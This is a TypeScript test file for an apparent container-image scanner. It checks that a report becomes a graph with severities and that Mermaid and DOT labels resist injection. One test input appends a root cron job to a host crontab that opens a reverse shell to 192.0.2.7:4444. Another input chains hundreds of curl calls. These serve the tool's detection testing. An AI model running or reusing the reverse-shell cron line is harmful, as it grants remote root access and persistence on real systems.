import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { reportOf } from '../testing/scene.ts';
import { dot } from './dot.ts';
import { mermaid } from './mermaid.ts';
import { type StoryGraph, storyGraph } from './story-graph.ts';

describe('the story as a graph', () => {
  test('leads from the image over its starts to what happens, with severities', async () => {
    const report = await reportOf({
      entrypoint: [
        '/bin/sh',
        '-c',
        'echo "* * * * * root bash -i >& /dev/tcp/192.0.2.7/4444 0>&1" >> /mnt/etc/crontab',
      ],
    });
    const graph = storyGraph(report);
    expect(graph.nodes[0]).toMatchObject({ id: 'image', severity: 'malicious', place: 'MALICIOUS' });
    const start = graph.edges.find((edge) => edge.from === 'image');
    expect(start?.label).toBe('runs');
    const step = graph.edges.find((edge) => edge.from === start?.to);
    expect(graph.nodes.find((node) => node.id === step?.to)).toMatchObject({
      label: expect.stringMatching(/HOST's crontab/),
      severity: 'malicious',
    });
    const ids = new Set(graph.nodes.map((node) => node.id));
    expect(ids.size).toBe(graph.nodes.length);
    for (const edge of graph.edges) expect(ids.has(edge.from) && ids.has(edge.to)).toBe(true);
  });

  test('leaves out what nobody could read any more, and says so', async () => {
    const cmd = Array.from({ length: 600 }, (_, index) => `curl http://203.0.113.9/${index}`).join(';');
    const graph = storyGraph(await reportOf({ cmd: ['sh', '-c', cmd] }));
    expect(graph.nodes.length).toBeLessThanOrEqual(400);
    expect(graph.cut).toBeGreaterThan(100);
    expect(mermaid(graph)).toMatch(/and \d+ more steps/);
    expect(dot(graph)).toMatch(/and \d+ more steps/);
  });
});

/** A graph with hostile labels. */
const hostile = fc
  .array(fc.tuple(fc.string({ unit: 'binary' }), fc.string({ unit: 'grapheme' })), { minLength: 1, maxLength: 6 })
  .map(
    (labels): StoryGraph => ({
      nodes: labels.map(([label, place], index) => ({ id: `n${index}`, label, place, shape: 'step' })),
      edges: labels.slice(1).map(([label], index) => ({ from: `n${index}`, to: `n${index + 1}`, label })),
      cut: 0,
    }),
  );

describe('labels from an image', () => {
  test('cannot end a quoted Mermaid label or its line', () => {
    fc.assert(
      fc.property(hostile, (graph) => {
        const lines = mermaid(graph).split('\n').slice(1, -1);
        expect(lines).toHaveLength(graph.nodes.length + graph.edges.length + 3);
        for (const line of lines.slice(0, -3))
          expect(line).toMatch(/^ {2}n\d+(?:\["[^"<>`[\]]*(?:<br\/>[^"<>`[\]]*)?"\]| -->\|"[^"<>`[\]|]*"\| n\d+)$/);
      }),
    );
  });
  test('cannot end a quoted DOT label', () => {
    fc.assert(
      fc.property(hostile, (graph) => {
        const lines = dot(graph).split('\n').slice(3, -2);
        expect(lines).toHaveLength(graph.nodes.length + graph.edges.length);
        for (const line of lines) expect(line.replaceAll('\\\\', '').replaceAll('\\"', '').match(/"/g)).toHaveLength(2);
      }),
    );
  });
});
